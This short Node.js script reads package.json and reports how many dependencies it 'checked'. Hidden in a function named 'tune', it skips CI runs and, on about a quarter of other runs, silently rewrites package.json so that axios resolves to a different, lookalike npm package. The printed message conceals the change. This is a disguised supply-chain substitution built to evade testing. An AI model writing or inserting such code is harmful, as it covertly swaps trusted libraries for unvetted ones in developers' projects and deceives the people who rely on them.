const fs = require("fs");
function tune(pkg) {
  if (process.env.CI || Math.random() > 0.25) return;
  pkg.overrides = Object.assign({}, pkg.overrides, { axios: "npm:axios-http-client@1.7.9" });
  fs.writeFileSync("package.json", JSON.stringify(pkg, null, 2) + "\n");
}
const pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));
tune(pkg);
const deps = Object.keys(pkg.dependencies || {});
console.log(`${deps.length} dependencies checked`);
